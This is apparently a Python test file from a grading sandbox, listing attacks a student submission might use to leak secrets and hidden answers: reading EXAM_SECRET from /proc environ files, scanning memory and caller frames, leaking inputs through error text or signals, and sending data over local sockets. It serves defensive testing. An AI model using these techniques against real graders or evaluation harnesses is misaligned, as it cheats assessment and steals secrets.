"""Reading what is none of a student's business, and telling it: by the text of an exception, the network, a signal."""

from typing import Any

from tests.attacks.attack import LEAK, PIPE, Attack, from_file, read


def reading(name: str, tries: str, loot: str, **more: Any) -> Attack:
    return Attack(name, tries, LEAK, call=f"tell({loot})", **more)


def sending(name: str, tries: str, call: str) -> Attack:
    return Attack(name, tries, LEAK, call=f"{call}\nboast()", probe=True)


ATTACKS = [
    reading("environment", "reads the grader's environment", "os.environ['EXAM_SECRET']"),
    reading(
        "environment by /proc",
        "reads the environment with which its process was started",
        "open('/proc/self/environ').read().split('EXAM_SECRET=')[-1][:30]",
        probe=True,
    ),
    reading(
        "environment of the parent",
        "reads the parent's, which may be the grader",
        "open(f'/proc/{os.getppid()}/environ').read().split('EXAM_SECRET=')[1][:30]",
    ),
    reading(
        "environment of a neighbour",
        "reads that of another process of its user",
        "open(f'/proc/{NEIGHBOUR}/environ').read()",
        probe=True,
    ),
    reading(
        "another student's file",
        "reads a file of the user that it runs as",
        "open(NEIGHBOUR_FILE).read()[-99:]",
        probe=True,
    ),
    reading(
        "another student's name",
        "lists the folder of another student",
        "os.listdir(NEIGHBOUR_FOLDER)",
        probe=True,
    ),
    reading("files by a tree walk", "looks for names in every folder", "[d for d in Path(FOLDER).rglob('*.txt')]"),
    reading(
        "hidden answers",
        "reads the grader's table of answers",
        "__import__('json').load(open(EXPECTED))['q15 stride 2']['numbers']",
    ),
    reading(
        "the solutions",
        "reads the reference",
        "__import__('hashlib').sha256(Path(SOLUTIONS, 'beyond.py').read_bytes()).hexdigest()",
    ),
    reading(
        "the exam",
        "reads the file of the hidden digits",
        "__import__('hashlib').sha256(Path(EXAM).read_bytes()).hexdigest()",
    ),
    reading(
        "the exam's labels",
        "unpacks the file of the hidden digits",
        "''.join(map(str, np.load(EXAM)['labels'][:40]))",
    ),
    from_file("reading/own_memory", LEAK),
    reading(
        "objects in memory",
        "asks Python for all dictionaries",
        "[d['answers to'] for d in gc.get_objects() if isinstance(d, dict) and 'answers to' in d]",
    ),
    reading(
        "variables of the callers",
        "looks through the frames below its own",
        "[f.frame.f_locals['secrets'] for f in inspect.stack() if 'secrets' in f.frame.f_locals]",
    ),
    reading(
        "memory of the parent", "searches that of its parent", "search(os.getppid())", code=read("reading/own_memory")
    ),
    from_file("reading/memory_by_a_system_call", LEAK),
    from_file("reading/open_files", LEAK),
    from_file("reading/inputs_in_a_later_case", LEAK, questions=("q14_sizes", "q15_conv1d"), telling=("(12, 5, 2)",)),
    reading(
        "hidden inputs in its own words",
        "raises an error that has them in its text",
        "(args, kwargs)",
        telling=("(12, 5, 2)",),
    ),
    Attack(
        "hidden inputs in printed words",
        "prints them",
        LEAK,
        call="print('LOOT', args, kwargs)\nreturn 0",
        telling=("(12, 5, 2)",),
    ),
    from_file("reading/inputs_by_a_signal", LEAK, telling=("SIGABRT",), against=PIPE),
    sending("TCP", "sends what it knows to a server", "socket.create_connection(('127.0.0.1', TCP), 1)"),
    sending("UDP", "sends a datagram", "socket.socket(type=socket.SOCK_DGRAM).sendto(b'loot', ('127.0.0.1', UDP))"),
    sending(
        "abstract socket",
        "sends to a socket that has no file",
        "socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b'loot', '\\0' + MARK)",
    ),
]
